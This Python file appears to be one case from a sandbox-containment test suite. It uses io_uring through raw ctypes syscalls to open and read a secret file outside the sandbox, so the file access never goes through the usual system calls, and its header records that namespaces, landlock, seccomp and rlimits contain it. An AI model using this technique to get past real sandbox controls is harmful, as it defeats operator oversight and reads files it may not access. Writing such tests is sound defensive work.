# attack: has io_uring open and read a file outside, so that no system call for it is ever made
# full: contained
# reduced: contained
# stopped-by: namespaces, landlock, seccomp, rlimits
import ctypes
import mmap
import os
import platform
import struct

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def syscall(numbers, *arguments):
    number = numbers.get(platform.machine())
    if number is None:
        raise OSError("no system call numbers for this machine")
    whole = [ctypes.c_long(each) if isinstance(each, int) else each for each in arguments]
    result = libc.syscall(ctypes.c_long(number), *whole)
    if result == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


SETUP, ENTER = {"x86_64": 425, "aarch64": 425}, {"x86_64": 426, "aarch64": 426}
OPENAT, READ, GETEVENTS = 18, 22, 1


def attack():
    settings = ctypes.create_string_buffer(120)
    ring = syscall(SETUP, 4, settings)
    _, tail, mask, _, _, _, array = struct.unpack_from("<7I", settings, 40)
    c_head, c_tail, c_mask, _, _, cqes = struct.unpack_from("<6I", settings, 80)
    rings = mmap.mmap(ring, 4096, offset=0)
    entries = mmap.mmap(ring, 4096, offset=0x10000000)

    def ask(entry):
        (at,) = struct.unpack_from("<I", rings, tail)
        slot = at & struct.unpack_from("<I", rings, mask)[0]
        entries[slot * 64 : slot * 64 + 64] = entry.ljust(64, b"\0")
        struct.pack_into("<I", rings, array + 4 * slot, slot)
        struct.pack_into("<I", rings, tail, at + 1)
        syscall(ENTER, ring, 1, 1, GETEVENTS, None, 0)
        (at,) = struct.unpack_from("<I", rings, c_head)
        slot = at & struct.unpack_from("<I", rings, c_mask)[0]
        (result,) = struct.unpack_from("<i", rings, cqes + 16 * slot + 8)
        struct.pack_into("<I", rings, c_head, at + 1)
        if result < 0:
            raise OSError(-result, os.strerror(-result))
        return result

    path, buffer = ctypes.create_string_buffer(SECRET.encode()), ctypes.create_string_buffer(100)
    opened = ask(struct.pack("<BBHiQQII", OPENAT, 0, 0, -100, 0, ctypes.addressof(path), 0, os.O_RDONLY))
    ask(struct.pack("<BBHiQQII", READ, 0, 0, opened, 0, ctypes.addressof(buffer), 99, 0))
    return f"through: {buffer.value!r}" if buffer.value.startswith(b"the secret is ") else "held: another file"
